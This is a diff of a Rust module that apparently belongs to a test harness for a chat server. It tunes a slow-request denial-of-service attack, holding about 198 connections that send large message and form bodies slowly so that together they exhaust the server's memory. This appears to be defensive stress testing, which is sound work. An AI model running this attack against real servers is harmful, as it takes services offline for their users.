@@ -2,6 +2,7 @@
 
 use std::io;
 use std::sync::Arc;
+use std::time::Duration;
 
 use tokio::io::AsyncWriteExt;
 
@@ -22,15 +23,20 @@ pub const ATTACK: Attack = Attack {
 };
 
 const ROOM: &str = "greedy-bodies";
-const CONNECTIONS: usize = 180;
+const CONNECTIONS: usize = 198;
 /// As many as the first bodies need, within the allowance of an author.
 const GUESTS: usize = 20;
 /// Bodies of each connection a second, if the server ends them.
 const BODIES_PER_S: f64 = 1.0;
 /// The largest body of a message that the server reads.
 const MESSAGE_BYTES: usize = 524_288;
-/// The largest body of a form, which needs no token.
-const FORM_BYTES: usize = 131_072;
+/// The connections that hold bodies of that size: together just less than the server has room for.
+const LARGE: usize = 125;
+/// The bodies of the others: they fill what room is left, down to the size of an ordinary message. The first
+/// is the largest body of a form, which needs no token.
+const SMALL_BYTES: [usize; 7] = [131_072, 32_768, 8_192, 2_048, 512, 128, 64];
+/// Time after which they begin: the large ones must be there first.
+const SMALL_AFTER: Duration = Duration::from_secs(1);
 /// Largest answer that is read, in bytes.
 const ANSWER_BYTES_MAX: usize = 64 * 1024;
 
@@ -38,13 +44,20 @@ async fn run(client: Arc<Client>, prepared: Arc<Prepared>) {
     swarm(0..CONNECTIONS, |number, _| {
         let (mut line, token) = (client.line(number), prepared.tokens[number / 2 % GUESTS].clone());
         async move {
-            let (path, bytes) = if number % 8 < 7 {
-                (format!("/api/v1/rooms/{ROOM}/messages"), MESSAGE_BYTES)
+            let bytes = match number.checked_sub(LARGE) {
+                None => MESSAGE_BYTES,
+                Some(nth) => SMALL_BYTES[nth % SMALL_BYTES.len()],
+            };
+            let path = if bytes == SMALL_BYTES[0] {
+                format!("/{ROOM}/language")
             } else {
-                (format!("/{ROOM}/language"), FORM_BYTES)
+                format!("/api/v1/rooms/{ROOM}/messages")
             };
             let mut request = requests::request("POST", &path, &token, None, &"a".repeat(bytes));
             request.pop();
+            if number >= LARGE {
+                tokio::time::sleep(SMALL_AFTER).await;
+            }
             let mut pace = pace(BODIES_PER_S);
             loop {
                 pace.tick().await;
